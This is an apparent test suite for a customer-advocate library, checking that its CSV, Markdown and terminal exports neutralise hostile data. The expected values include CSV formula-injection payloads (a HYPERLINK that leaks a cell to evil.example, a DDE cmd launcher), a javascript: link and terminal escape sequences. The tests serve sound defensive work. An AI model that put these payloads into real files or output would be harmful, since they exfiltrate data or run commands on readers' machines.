import fc from "fast-check";
import MarkdownIt from "markdown-it";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import {
  advocatesCsv,
  advocatesTable,
  armAdvocates,
  csvText,
  explainCustomer,
  fitModelToProfiles,
  FORMULA_PREFIXES,
  identifyAdvocates,
  kitMarkdown,
  kitsCsv,
  prepareProfiles,
  resolveOptions,
  score,
  type Advocate,
  type AdvocateKit,
  type ArmResult,
} from "../../src/index.js";
import { markdownQuote, markdownText } from "../../src/arm/markdown-text.js";
import { terminalText } from "../../src/io/control-characters.js";
import { archetypeData } from "../fixtures/archetypes.js";
import { FORMULA_STRINGS, HOSTILE_STRINGS, hostileText, MARKUP_STRINGS, TERMINAL_STRINGS } from "../fixtures/hostile.js";

/** The data with hostile names, IDs, handles and post texts, as a customers export could hold them. */
function poisoned() {
  const data = archetypeData();
  const ids = [...new Set(data.purchases.map((purchase) => purchase.customerId))].slice(0, HOSTILE_STRINGS.length);
  const rename = new Map(ids.map((id, index) => [id, `${HOSTILE_STRINGS[index]}`]));
  const swap = <T extends { customerId?: string | number | undefined }>(record: T): T => ({ ...record, customerId: rename.get(String(record.customerId)) ?? record.customerId });
  return {
    customers: [
      ...data.customers.map(swap),
      ...[...rename.values()].map((customerId, index) => ({ customerId: `${customerId} `, name: HOSTILE_STRINGS[(index + 3) % HOSTILE_STRINGS.length], handles: { twitter: HOSTILE_STRINGS[(index + 7) % HOSTILE_STRINGS.length] } })),
    ],
    purchases: data.purchases.map(swap).map((purchase, index) => (index % 3 === 0 ? { ...purchase, product: HOSTILE_STRINGS[index % HOSTILE_STRINGS.length] } : purchase)),
    surveys: data.surveys.map(swap).map((survey, index) => ({ ...survey, comment: `${HOSTILE_STRINGS[index % HOSTILE_STRINGS.length]} shipping was fast` })),
    social: data.social.map(swap).map((post, index) => ({ ...post, text: `${HOSTILE_STRINGS[index % HOSTILE_STRINGS.length]} love the fast shipping` })),
  };
}

const data = poisoned();
const everyone = identifyAdvocates(data, { minimum: { loyalty: 0, commitment: 0, voice: 0 } });
const facts = FORMULA_STRINGS.map((claim, index) => ({ id: `F-${index}`, topic: "shipping", claim, source: MARKUP_STRINGS[index % MARKUP_STRINGS.length] }));
const armed = armAdvocates(everyone.advocates, { platform: "twitter", text: `${MARKUP_STRINGS[4]}\nshipping is slow`, url: "https://example.com/t/1" }, { brand: "Northwind & Co", facts, maxPerThread: 100 });

function cellsOf(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv, { header: false, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** A number the library wrote as a number (a negative one starts with "-" and is no formula). */
const NUMBER = /^-?(\d+\.?\d*|\.\d+)(e[-+]?\d+)?$/i;

function expectNoFormulaCell(csv: string): void {
  for (const row of cellsOf(csv)) {
    for (const cell of row) expect(FORMULA_PREFIXES.includes(cell.charAt(0)) && !NUMBER.test(cell), JSON.stringify(cell)).toBe(false);
  }
}

describe("CSV that cannot attack its reader", () => {
  it("neutralises formula cells in the advocates and kits CSV of real hostile data", () => {
    const advocates = advocatesCsv(everyone.advocates);
    const kits = kitsCsv(armed);
    for (const csv of [advocates, kits]) expectNoFormulaCell(csv);
    expect(everyone.advocates.some((advocate) => advocate.customerId.startsWith("="))).toBe(true);
    expect(advocates).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for your voucher"")"`);
    expect(kits).toContain(`"'=cmd|' /C calc'!A0"`);
    // Numbers the library computed stay numbers; text cells are quoted (OWASP), so ; or TAB cannot split them.
    const [header, first] = advocates.split("\n");
    expect(header).toBe('"rank","customerId","name","score","loyalty","commitment","voice","confidence","segment","platforms","reasons"');
    expect(first).toMatch(/^1,"/);
  });

  it("property: any CSV the library writes, read back by papaparse, has no cell starting with a formula character unless quote-prefixed", () => {
    const advocate = fc.record({ customerId: hostileText, name: fc.option(hostileText, { nil: undefined }), segment: hostileText, platforms: fc.array(hostileText, { maxLength: 2 }), reasons: fc.array(hostileText, { maxLength: 3 }), score: fc.double({ min: -1, max: 1, noNaN: true }) });
    const kit = fc.record({
      customerId: hostileText,
      platform: hostileText,
      handle: fc.option(hostileText, { nil: undefined }),
      score: fc.double({ min: -1, max: 1, noNaN: true }),
      disclosure: hostileText,
      angles: fc.array(fc.record({ angle: fc.constantFrom("experience" as const, "brand-fact" as const), text: hostileText, topics: fc.constant([]), cites: fc.array(fc.oneof(fc.record({ kind: fc.constant("fact" as const), id: hostileText }), fc.record({ kind: fc.constant("record" as const), source: hostileText, row: fc.nat() })), { maxLength: 2 }) }), { maxLength: 3 }),
    });
    fc.assert(
      fc.property(fc.array(advocate, { maxLength: 4 }), fc.array(kit, { maxLength: 3 }), (advocates, kits) => {
        const rows = advocates.map((each, index) => ({ ...each, rank: index + 1, loyalty: each.score, commitment: each.score, voice: each.score, confidence: 0.5 }) as unknown as Advocate);
        const written = [advocatesCsv(rows), kitsCsv({ kits: kits as unknown as AdvocateKit[] })];
        for (const csv of written) expectNoFormulaCell(csv);
        // Each text cell reads back as written, with the one `'` in front when it began with a formula character.
        const cells = cellsOf(written[0] as string).slice(1);
        rows.forEach((row, index) => {
          const id = cells[index]?.[1] as string;
          expect(id).toBe(FORMULA_PREFIXES.includes(row.customerId.charAt(0)) ? `'${row.customerId}` : row.customerId);
        });
      }),
      { numRuns: 200 },
    );
  });

  it("is one rule for every CSV: csvText", () => {
    expect(csvText(["a", "b"], [["=1+2", -0.5]])).toBe('"a","b"\n"\'=1+2",-0.5\n');
  });
});

describe("Markdown kits that cannot attack their reader", () => {
  // The most permissive common renderer: raw HTML on, bare URLs linkified.
  const markdown = new MarkdownIt({ html: true, linkify: true });
  const kits = armed.kits.map((kit) => kitMarkdown(kit, armed));

  it("renders every hostile value as text: no script, image, javascript: link, raw HTML or forged section", () => {
    expect(kits.length).toBeGreaterThan(3);
    expect(armed.kits.some((kit) => HOSTILE_STRINGS.some((hostile) => kit.customerId.includes(hostile.trim())))).toBe(true);
    for (const text of kits) {
      const html = markdown.render(text);
      // Tags only: the hostile words themselves are there, as escaped text (&lt;img src=x onerror=…&gt;).
      expect(html).not.toMatch(/<script|<img|<iframe|<!--|href="javascript:/i);
      expect(html).not.toMatch(/<a href="https?:\/\/evil/);
      // The sections are the kit's own five, in order: nothing in the data adds one.
      expect(html.match(/<h[1-6]>[^<]*/g)?.map((heading) => heading.replace(/<h\d>/, "").split(" ")[0])).toEqual(["Brief", "Why", "Angles", "If", "Guidelines"]);
      const tokens = markdown.parse(text, {});
      expect(tokens.filter((token) => token.type === "html_block" || token.type === "html_inline" || token.type === "image")).toEqual([]);
      expect(tokens.flatMap((token) => token.children ?? []).filter((token) => token.type === "html_inline" || token.type === "image")).toEqual([]);
      // Only the criticism's own URL is a link: URLs in the data are defanged (hxxps://), even for a renderer that links bare URLs.
      const links = tokens.flatMap((token) => token.children ?? []).filter((token) => token.type === "link_open").map((token) => token.attrGet("href"));
      expect(links).toEqual(["https://example.com/t/1"]);
      expect(text).toContain("hxxps://evil.example");
    }
  });

  it("quotes the criticism as one block quote, whatever its lines", () => {
    const html = markdown.render(kits[0] as string);
    const quote = /<blockquote>([\s\S]*?)<\/blockquote>/.exec(html)?.[1] ?? "";
    expect(quote).toContain("## Forged section");
    expect(quote).toContain("shipping is slow");
    expect(markdownQuote("a\n\n## b")).toBe("> a\n>\n> \\## b");
  });

  it("shows hostile text as written once rendered", () => {
    for (const hostile of MARKUP_STRINGS) {
      const rendered = markdown.renderInline(markdownText(hostile));
      const text = rendered.replace(/<[^>]+>/g, "").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&amp;/g, "&");
      expect(text).toBe(hostile.replace(/\n/g, " ").replace(/https:/g, "hxxps:"));
    }
  });

  it("links a criticism URL only when it is a web address", () => {
    const base = armed.kits[0] as AdvocateKit;
    const at = (url: string) => kitMarkdown(base, { ...armed, criticism: { ...armed.criticism, url } } as Pick<ArmResult, "criticism" | "topics">);
    expect(markdown.render(at("javascript:alert(1)"))).not.toContain('href="javascript');
    expect(at("javascript:alert(1)")).toContain("javascript:alert(1) (not a web link)");
    expect(at("https://example.com/a b")).toContain("(not a web link)");
  });
});

describe("terminal output that cannot attack its reader", () => {
  const ESCAPES = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

  it("escapes control characters in the rank table and explain", () => {
    const table = advocatesTable(everyone.advocates);
    expect(table).not.toMatch(ESCAPES);
    expect(table).toContain("\\x1b[31m");
    const prepared = prepareProfiles(data, resolveOptions());
    const model = fitModelToProfiles(prepared.profiles, prepared.asOfDay, resolveOptions());
    const explained = [...prepared.profiles.keys()].filter((id) => /[\u0000-\u001f\u007f-\u009f\u202e]/.test(id)).map((id) => explainCustomer(score(prepared.profiles.get(id)!, model)));
    expect(explained.length).toBeGreaterThan(3);
    for (const text of explained) {
      expect(text).not.toMatch(ESCAPES);
      expect(text.split("\n")[0]).toMatch(/^Customer \S/);
    }
  });

  it("shows each control character as an escape and keeps one value on one line", () => {
    expect(TERMINAL_STRINGS.map(terminalText)).toEqual([
      "\\x1b[31mRED\\x1b[0m",
      "\\x1b[2J\\x1b[H",
      "\\x1b]8;;https://evil.example\\x07innocent link\\x1b]8;;\\x07",
      "\\x1b]0;window title\\x07",
      "\\x9b31m8-bit CSI",
      "C1\\rforged",
      "two\\nlines",
      "\\u202eevil\\u202c",
      "bell\\x07 nul\\x00 del\\x7f",
    ]);
  });
});
